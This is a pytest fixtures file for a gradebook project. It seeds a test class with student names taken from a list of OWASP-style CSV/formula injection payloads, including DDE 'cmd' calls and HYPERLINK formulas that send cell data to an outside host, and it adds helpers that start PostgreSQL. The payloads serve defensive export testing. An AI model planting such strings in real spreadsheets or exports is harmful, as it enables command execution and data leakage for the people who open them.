"""A made-up class with awkward people in it."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
import sqlalchemy

from benchmarks.gradebook_class import MadeClass, Size, make_class
from tests.gradebook.postgres import find_binaries, server
from tests.pipeline.small_course_fixtures import built_course, mode

__all__ = ["built_course", "mode"]

VECTORS = [  # OWASP, "CSV Injection", and what has been tried since
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200e=1+1",
    " \u202e=1+1",
    "＝1+1",
    "|calc",
    "%0A=1+1",
    '"=1+1',
    "'=1+1",
    'Zoé;=HYPERLINK("http://example.org")',
    "Zoé\t=1+1",
    "Zoé\n=1+1",
    "Zoé,=1+1",
    'a","=1+1',
    'a";"=1+1',
]
HARMLESS = ["'t Hooft", "O'Neill", "محمد", "Zoé Müller-Šimić", "a - b", "1 + 1 = 2", "", 'dit "Jo"', "a;b", "50 %"]


@pytest.fixture(scope="session")
def made(tmp_path_factory: pytest.TempPathFactory) -> MadeClass:
    """Forty people; first names are attacks or odd but harmless."""
    made = make_class(tmp_path_factory.mktemp("made") / "course", Size(40, 3, 2))
    engine = sqlalchemy.create_engine(made.course.db_url)
    with engine.begin() as connection:
        for student, name in zip(made.students, VECTORS + HARMLESS, strict=False):
            update = sqlalchemy.text("UPDATE student SET first_name = :name, last_name = '' WHERE id = :student")
            connection.execute(update, {"name": name, "student": student})
    engine.dispose()
    return made


@pytest.fixture(scope="session")
def postgres() -> Iterator[str]:
    """The address of a real server's maintenance database; skipped, with the reason, where PostgreSQL is not installed."""
    binaries = find_binaries()
    if binaries is None:
        pytest.skip("PostgreSQL's server is not installed (apt-get install postgresql)")
    with server(binaries) as address:
        yield address


@pytest.fixture
def new_database(postgres: str) -> Callable[[str], str]:
    """Makes an empty database on the server and gives its address."""

    def make(name: str) -> str:
        engine = sqlalchemy.create_engine(postgres, isolation_level="AUTOCOMMIT")
        with engine.connect() as connection:
            connection.exec_driver_sql(f"DROP DATABASE IF EXISTS {name}")
            connection.exec_driver_sql(f"CREATE DATABASE {name}")
        engine.dispose()
        return postgres.replace("/postgres?", f"/{name}?")

    return make
